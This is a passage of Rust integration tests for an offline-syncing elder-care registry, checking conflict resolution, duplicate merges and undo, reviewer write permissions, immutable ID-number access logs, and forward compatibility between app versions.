    assert!(answer.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&answer[..answer.len().min(200)]));

    // The server then stopped, with the elder stored.
    county.task.take().unwrap().await.unwrap();
    let shard = ShardId::Elders { village: VILLAGE_A.into() };
    assert_eq!(county.admin(|store| store.heads(&shard).unwrap()), device.heads(&shard));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_conflict_the_reviewer_resolves_is_resolved_on_every_device_after_sync() {
    use xianglin_domain::review::conflicts;
    use xianglin_schema::api::ResolveConflict;

    let dir = tempfile::tempdir().unwrap();
    let mut county = County::start(county_database(&dir)).await;
    let codes = county.admin(|store| {
        [
            code_for(store, Role::StationDirector, &[TOWNSHIP_A], "庄口站"),
            code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"),
            code_for(store, Role::CountyReviewer, &["360733000000"], "县审核员"),
        ]
    });
    let station = Device::enroll(&county, &codes[0], "庄口镇敬老院").await;
    let caseworker = Device::enroll(&county, &codes[1], "刘芳的电脑").await;
    let reviewer = Device::enroll(&county, &codes[2], "县民政局").await;
    let devices = [&station, &caseworker, &reviewer];
    for device in devices {
        device.sync().await;
    }
    let shared = station.add_elder(&mut Rng::new(11), VILLAGE_A);
    station.sync().await;
    caseworker.sync().await;

    // Offline, the station and the caseworker both correct the phone and the address.
    let edit = |device: &Device, phone: &str, address: &str| {
        let mut replica = device.replica.lock().unwrap();
        let mut elder = registry::elder_for_edit(&replica, &shared).unwrap();
        elder.phone = Some(phone.into());
        elder.address = address.into();
        store_elder(&mut replica, elder).unwrap();
    };
    edit(&station, "13800000001", "白沙村3组12号");
    edit(&caseworker, "13900000002", "白沙村3组21号");
    for device in [&station, &caseworker, &reviewer] {
        device.sync().await;
    }

    // The reviewer sees both fields, each value with who wrote it and when.
    let rows = conflicts::conflicts(&mut reviewer.replica.lock().unwrap()).unwrap();
    let fields: Vec<&str> = rows.iter().filter(|row| row.record_id == shared).map(|row| row.field.as_str()).collect();
    assert_eq!(fields, ["address", "phone"]);
    let phone = rows.iter().find(|row| row.field == "phone").unwrap();
    assert!(phone.accepts_other);
    let mut writers: Vec<(&str, &str)> =
        phone.values.iter().map(|value| (value.display.as_str(), value.user_name.as_str())).collect();
    writers.sort();
    assert_eq!(writers, [("13800000001", "庄口站"), ("13900000002", "刘芳")]);
    assert!(phone.values.iter().all(|value| value.at.starts_with("2026-11-20")));
    assert_eq!(phone.values.iter().filter(|value| value.shown).count(), 1);
    assert!(phone.values[0].shown, "the value lists show comes first");

    // Bad picks are refused and change nothing.
    let elders_a = ShardId::Elders { village: VILLAGE_A.into() };
    let before = reviewer.heads(&elders_a);
    let pick = |field: &str, value: &str| ResolveConflict {
        shard: elders_a.to_string(),
        record_id: shared.clone(),
        field: field.into(),
        value: value.into(),
    };
    for (request, expected) in [
        (pick("phone", "not json"), "格式不正确"),
        (pick("phone", "\"12\""), "电话"),
        (pick("name", "\"张三\""), "已不存在"),
    ] {
        let error = conflicts::resolve(&mut reviewer.replica.lock().unwrap(), &request).unwrap_err();
        assert!(error.to_string().contains(expected) || format!("{error:?}").contains(expected), "{error:?}");
    }
    assert_eq!(reviewer.heads(&elders_a), before);

    // The reviewer types a third phone number; the address conflict stays until picked.
    conflicts::resolve(&mut reviewer.replica.lock().unwrap(), &pick("phone", "\"13700000003\"")).unwrap();
    for device in [&reviewer, &station, &caseworker] {
        device.sync().await;
    }
    for device in devices {
        let replica = device.replica.lock().unwrap();
        assert_eq!(registry::elder_for_edit(&replica, &shared).unwrap().phone.as_deref(), Some("13700000003"));
        let left: Vec<String> = query::conflicts_of(&replica, &shared).unwrap().into_iter().map(|c| c.field).collect();
        assert_eq!(left, ["address"]);
    }

    // The station picks the caseworker's address; after sync no device has a conflict left.
    let address = conflicts::conflicts(&mut station.replica.lock().unwrap()).unwrap();
    let theirs = address[0].values.iter().find(|value| value.display == "白沙村3组21号").unwrap().value.clone();
    conflicts::resolve(&mut station.replica.lock().unwrap(), &pick("address", &theirs)).unwrap();
    for device in [&station, &caseworker, &reviewer] {
        device.sync().await;
    }
    for device in devices {
        let replica = device.replica.lock().unwrap();
        assert!(query::all_conflicts(&replica).unwrap().is_empty());
        assert_eq!(registry::elder_for_edit(&replica, &shared).unwrap().address, "白沙村3组21号");
    }
    assert_eq!(station.heads(&elders_a), reviewer.heads(&elders_a));
    county.stop().await;
}

#[tokio::test]
async fn a_merge_reaches_every_device_a_late_visit_to_the_merged_elder_follows_it_and_undo_reaches_them_too() {
    use xianglin_domain::review::duplicates;
    use xianglin_schema::api::{DecideDuplicate, UndoDuplicateDecision};
    use xianglin_schema::duplicate::DuplicateVerdict;

    let dir = tempfile::tempdir().unwrap();
    let mut county = County::start(county_database(&dir)).await;
    let other_village = village_of(TOWNSHIP_A);
    let codes = county.admin(|store| {
        [
            code_for(store, Role::StationDirector, &[TOWNSHIP_A], "庄口站"),
            code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"),
            code_for(store, Role::CountyReviewer, &["360733000000"], "县审核员"),
        ]
    });
    let station = Device::enroll(&county, &codes[0], "庄口镇敬老院").await;
    let caseworker = Device::enroll(&county, &codes[1], "刘芳的电脑").await;
    let reviewer = Device::enroll(&county, &codes[2], "县民政局").await;
    for device in [&station, &caseworker, &reviewer] {
        device.sync().await;
    }

    // The station registers one person twice, in two villages, and visits both.
    let (kept, merged) = {
        let mut replica = station.replica.lock().unwrap();
        let mut person = elder(&mut Rng::new(21), &other_village);
        person = store_elder(&mut replica, person).unwrap();
        let mut twin = person.clone();
        twin.id = String::new();
        twin.village_code = VILLAGE_A.into();
        let twin = store_elder(&mut replica, twin).unwrap();
        for (who, hours) in [(&person, 30), (&twin, 28)] {
            store_visit(
                &mut replica,
                crate::support::visit(
                    who,
                    now() - chrono::Duration::hours(hours),
                    xianglin_schema::visit::Severity::Normal,
                ),
            )
            .unwrap();
        }
        (person, twin)
    };
    for device in [&station, &caseworker, &reviewer] {
        device.sync().await;
    }
    let visits_of = |device: &Device, id: &str| {
        query::elder_detail(&device.replica.lock().unwrap(), id).map(|detail| detail.recent_visits.len())
    };

    // The reviewer merges; the caseworker is offline and visits the registration it knows.
    let page = duplicates::duplicates(&reviewer.replica.lock().unwrap()).unwrap();
    assert_eq!(page.pairs.len(), 1);
    let request = DecideDuplicate {
        verdict: DuplicateVerdict::Merge,
        kept_id: kept.id.clone(),
        merged_id: merged.id.clone(),
        note: String::new(),
    };
    let page = duplicates::decide(&mut reviewer.replica.lock().unwrap(), &request).unwrap();
    let late = store_visit(
        &mut caseworker.replica.lock().unwrap(),
        crate::support::visit(&merged, now() - chrono::Duration::hours(1), xianglin_schema::visit::Severity::Normal),
    )
    .unwrap();
    for device in [&reviewer, &caseworker, &station, &reviewer] {
        device.sync().await;
    }

    // Every device reads one person with all three visits (the caseworker holds only 白沙村's).
    for device in [&station, &reviewer] {
        assert_eq!(visits_of(device, &kept.id).unwrap(), 3);
        assert_eq!(query::elder_detail(&device.replica.lock().unwrap(), &merged.id).unwrap().elder.id, kept.id);
        assert!(duplicates::duplicates(&device.replica.lock().unwrap()).unwrap().pairs.is_empty());
    }
    assert!(
        query::elder_detail(&station.replica.lock().unwrap(), &kept.id)
            .unwrap()
            .recent_visits
            .iter()
            .any(|row| row.id == late.id),
        "the late visit follows the merge"
    );

    // A station may not merge or undo; the reviewer undoes, and every device has two again.
    let undo = UndoDuplicateDecision { id: page.decisions[0].id.clone(), reason: "核实为两人".into() };
    assert!(duplicates::undo(&mut station.replica.lock().unwrap(), &undo).is_err());
    duplicates::undo(&mut reviewer.replica.lock().unwrap(), &undo).unwrap();
    for device in [&reviewer, &station, &caseworker] {
        device.sync().await;
    }
    for device in [&station, &reviewer] {
        assert_eq!(visits_of(device, &kept.id).unwrap(), 1);
        assert_eq!(visits_of(device, &merged.id).unwrap(), 2);
    }
    assert_eq!(visits_of(&caseworker, &merged.id).unwrap(), 2);
    county.stop().await;
}

/// In the county document a reviewer's computer writes its duplicate decisions and export log,
/// and nothing else: a pushed change to a user, a place or the policy is refused whole, even
/// from a reviewer, and nothing of it is stored.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_reviewer_may_write_decisions_to_the_county_document_but_never_users_places_or_policy() {
    let dir = tempfile::tempdir().unwrap();
    let mut county = County::start(county_database(&dir)).await;
    let shard = ShardId::county(demo::DEMO_COUNTY);
    for (key, allowed) in
        [("user/u-forged", false), ("place/360733105299", false), ("policy/forged", false), ("export/e1", true)]
    {
        let code = county.admin(|store| code_for(store, Role::CountyReviewer, &[demo::DEMO_COUNTY], "审核员"));
        let reviewer = Device::enroll(&county, &code, "县民政局").await;
        reviewer.sync().await;
        let before = county_state(&county);
        {
            let mut replica = reviewer.replica.lock().unwrap();
            let author = replica.author();
            replica.commit(&shard, &[(key.to_owned(), serde_json::json!({ "name": "伪造" }))], &author).unwrap();
        }
        let pushed = reviewer.link.sync(&reviewer.replica).await;
        if allowed {
            assert!(pushed.is_ok(), "{key}: {pushed:?}");
            assert_ne!(county_state(&county), before, "{key}: not stored");
        } else {
            assert!(matches!(pushed, Err(ref error) if error.code() == "forbidden"), "{key}: {pushed:?}");
            assert_eq!(county_state(&county), before, "{key}: something was stored");
        }
    }
    county.stop().await;
}

/// Who viewed whose data travels to the county: a caseworker shows an elder's full ID number
/// (with a reason); after syncing, the county reviewer finds the view in the access list
/// (filtered by user and by elder) and the township's station sees it on the elder's page. A
/// station director may not read the county's list, and the server refuses a change that
/// rewrites an access record.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_view_of_an_id_number_reaches_the_county_s_access_list_and_the_elder_s_page() {
    use xianglin_domain::access;
    use xianglin_schema::access::AccessKind;
    use xianglin_schema::api::AccessLogRequest;
    let dir = tempfile::tempdir().unwrap();
    let (county, station, caseworker) = station_and_caseworker(&dir).await;
    let reviewer_code = county.admin(|store| code_for(store, Role::CountyReviewer, &["360733000000"], "县审核员"));
    let reviewer = Device::enroll(&county, &reviewer_code, "县民政局").await;
    let elder_id = caseworker.add_elder(&mut Rng::new(61), VILLAGE_A);
    let full = access::reveal_id_number(&mut caseworker.replica.lock().unwrap(), &elder_id, "核对低保材料").unwrap();
    assert_eq!(full.len(), 18);
    let caseworker_id = caseworker.replica.lock().unwrap().user_id().to_owned();
    caseworker.sync().await;
    reviewer.sync().await;
    station.sync().await;

    let request = |user_id: Option<String>, elder_id: Option<String>| AccessLogRequest {
        user_id,
        elder_id,
        from: Some(now().date()),
        to: Some(now().date()),
        page: 1,
        page_size: 50,
    };
    let listed = access::log(&reviewer.replica.lock().unwrap(), &request(Some(caseworker_id.clone()), None)).unwrap();
    assert_eq!(listed.total, 1);
    let row = &listed.items[0];
    assert_eq!(
        (row.elder_id.as_str(), row.kind, row.reason.as_str()),
        (elder_id.as_str(), AccessKind::IdNumber, "核对低保材料")
    );
    assert_eq!(row.user_name, "刘芳");
    assert!(row.id_number_masked.contains("**********") && row.id_number_masked != full);
    let by_elder = access::log(&reviewer.replica.lock().unwrap(), &request(None, Some(elder_id.clone()))).unwrap();
    assert_eq!(by_elder.total, 1);
    let other_day = AccessLogRequest { from: Some(now().date().succ_opt().unwrap()), to: None, ..request(None, None) };
    assert_eq!(access::log(&reviewer.replica.lock().unwrap(), &other_day).unwrap().total, 0);

    let on_the_page = access::of_elder(&station.replica.lock().unwrap(), &elder_id).unwrap();
    assert_eq!(on_the_page.len(), 1, "the station sees who looked at its elder");
    assert!(
        access::log(&station.replica.lock().unwrap(), &request(None, None)).is_err(),
        "the county's list is the reviewer's"
    );

    // A device that rewrites an access record (another program, or an altered app) is refused:
    // access records are written once.
    let shard = ShardId::Visits { village: VILLAGE_A.into(), month: xianglin_sync::Month::of(now().date()) };
    let key = format!("access/{}", listed.items[0].id);
    {
        let mut replica = caseworker.replica.lock().unwrap();
        let mut value = replica.read_record(&shard, &key).unwrap().unwrap().value;
        value["reason"] = "改过的原因".into();
        let author = replica.author();
        replica.commit(&shard, &[(key.clone(), value)], &author).unwrap();
    }
    let refused = caseworker.link.sync(&caseworker.replica).await.unwrap_err();
    assert!(refused.to_string().contains("never edited"), "{refused}");
    reviewer.sync().await;
    let again = access::log(&reviewer.replica.lock().unwrap(), &request(Some(caseworker_id), None)).unwrap();
    assert_eq!(again.items[0].reason, "核对低保材料", "the county kept the record as first written");
}

/// How the next app version serializes an elder: this build's fields plus what it adds (a
/// top-level field, a category this build cannot name, a key inside the life status, a field of
/// a contact). The newer app is modelled by its serialization, which is all that travels.
fn as_the_next_version_writes(elder: &xianglin_schema::elder::Elder) -> serde_json::Value {
    let mut record = serde_json::to_value(elder).unwrap();
    record["care_level"] = serde_json::json!("二级");
    record["categories"]["orphaned"] = serde_json::json!("2021-05-01");
    record["life"]["cause"] = serde_json::json!("子女外出务工");
    record["contacts"]["c1"]["wechat"] = serde_json::json!("zhang-1");
    record
}

/// Runs the next release's build (`xianglin-next-version`, a process of its own) on its PC.
fn next_version(data_dir: &std::path::Path, county: &County, words: &[&str], stdin: &str) -> serde_json::Value {
    use std::io::Write;
    let mut child = std::process::Command::new(env!("CARGO_BIN_EXE_xianglin-next-version"))
        .arg(data_dir)
        .arg(&county.url)
        .args(words)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{words:?}: {}", String::from_utf8_lossy(&output.stderr));
    serde_json::from_slice(&output.stdout).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_builds_in_one_county_the_next_one_s_field_survives_this_one_s_edit() {
    use xianglin_schema::api::elders::ElderSearch;
    use xianglin_schema::elder::EconomicStatus;
    let dir = tempfile::tempdir().unwrap();
    let mut county = County::start(county_database(&dir)).await;
    let (next_code, this_code) = county.admin(|store| {
        (
            code_for(store, Role::StationDirector, &[TOWNSHIP_A], "庄口站"),
            code_for(store, Role::Caseworker, &[VILLAGE_A], "刘芳"),
        )
    });
    let next_pc = dir.path().join("next-pc");
    // The blocking child processes run beside the server's tasks, not on them.
    let run = |words: Vec<String>, stdin: String| {
        let (next_pc, county) = (next_pc.clone(), &county);
        let words: Vec<&str> = words.iter().map(String::as_str).collect();
        tokio::task::block_in_place(|| next_version(&next_pc, county, &words, &stdin))
    };
    run(vec!["enroll".into(), next_code], String::new());
    let this = Device::enroll(&county, &this_code, "刘芳的电脑").await;

    // The next build registers an elder with a care level, which this build's elder lacks.
    let mut registered = elder(&mut Rng::new(23), VILLAGE_A);
    registered.id = new_id();
    registered.meta = RecordMeta::created(now(), "next-version");
    let json = serde_json::to_string(&registered).unwrap();
    let id = run(vec!["register".into(), "二级".into()], json)["id"].as_str().unwrap().to_owned();
    assert_eq!(id, registered.id);

    // This build lists the elder, reads her economic status (临时救助, new in the next build)
    // as one it cannot name, edits her phone through its own type, and sends the edit.
    this.sync().await;
    let search = ElderSearch { place_code: None, query: String::new(), include_inactive: true, page: 1, page_size: 50 };
    let listed = query::search_elders(&this.replica.lock().unwrap(), &search).unwrap();
    let row = listed.items.iter().find(|row| row.id == id).expect("the next build's elder is on this build's registry");
    assert_eq!(row.economic_status, EconomicStatus::Unknown);
    let mut seen = registry::elder_for_edit(&this.replica.lock().unwrap(), &id).unwrap();
    assert_eq!(seen.economic_status, EconomicStatus::Unknown);
    seen.phone = Some("13912345678".into());
    store_elder(&mut this.replica.lock().unwrap(), seen).unwrap();
    this.sync().await;

    // The next build reads the elder back whole: this build's phone, its own care level.
    let shown = run(vec!["show".into(), id.clone()], String::new());
    assert_eq!(shown["phone"], "13912345678");
    assert_eq!(shown["care_level"], "二级", "the field this build does not know survived its edit");
    assert_eq!(shown["economic_status"], "temporary_relief", "the value this build cannot name survived its edit");
    assert_eq!(shown["name"], registered.name.as_str());
    county.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_newer_app_s_fields_survive_an_edit_by_this_app_and_the_edit_reaches_the_newer_app() {
    use xianglin_schema::elder::{Category, Contact};
    let dir = tempfile::tempdir().unwrap();
    let (mut county, newer, this) = station_and_caseworker(&dir).await;

    // The newer app (the station) registers an elder with what only it knows.
    let mut registered = elder(&mut Rng::new(19), VILLAGE_A);
    registered.categories.insert(Category::LivingAlone, "2020-01-01".parse().unwrap());
    registered.categories.insert(Category::EmptyNest, "2020-01-01".parse().unwrap());
    registered
        .contacts
        .insert("c1".into(), Contact { name: "张一".into(), relation: "儿子".into(), phone: None, is_supporter: true });
    let id = store_elder(&mut newer.replica.lock().unwrap(), registered).unwrap().id;
    let shard = ShardId::elders(VILLAGE_A);
    {
        let mut replica = newer.replica.lock().unwrap();
        let stored = replica.read_record(&shard, &id).unwrap().unwrap().value;
        let next: xianglin_schema::elder::Elder = serde_json::from_value(stored).unwrap();
        let author = replica.author();
        replica.commit(&shard, &[(id.clone(), as_the_next_version_writes(&next))], &author).unwrap();
    }
    newer.sync().await;
    this.sync().await;

    // This app reads the elder (without the category it cannot name) and edits it: a new
    // phone, the contact renamed, 空巢 taken away.
    let mut seen = xianglin_domain::lookup::current_elder(&this.replica.lock().unwrap(), &id).unwrap();
    assert_eq!(seen.categories.keys().copied().collect::<Vec<_>>(), [Category::LivingAlone, Category::EmptyNest]);
    seen.phone = Some("13912345678".into());
    seen.contacts.get_mut("c1").unwrap().name = "张二".into();
    seen.categories.remove(&Category::EmptyNest);
    store_elder(&mut this.replica.lock().unwrap(), seen).unwrap();
    this.sync().await;
    newer.sync().await;

    // Both apps hold one record: this app's edit, with all the newer app wrote.
    for device in [&newer, &this] {
        let stored = device.replica.lock().unwrap().read_record(&shard, &id).unwrap().unwrap();
        assert!(stored.conflicts.is_empty(), "{:?}", stored.conflicts);
        let record = stored.value;
        assert_eq!(record["phone"], "13912345678");
        assert_eq!(record["care_level"], "二级");
        assert_eq!(
            record["categories"],
            serde_json::json!({"living_alone": "2020-01-01", "orphaned": "2021-05-01"}),
            "空巢 is gone as this app's user left it; 孤儿 is kept"
        );
        assert_eq!(record["life"]["cause"], "子女外出务工");
        assert_eq!(record["contacts"]["c1"]["name"], "张二");
        assert_eq!(record["contacts"]["c1"]["wechat"], "zhang-1");
    }
    // And the county's copy is the same.
    let county_record = county.admin(|store| store.replica().read_record(&shard, &id).unwrap().unwrap().value);
    assert_eq!(county_record, newer.replica.lock().unwrap().read_record(&shard, &id).unwrap().unwrap().value);
    county.stop().await;
}
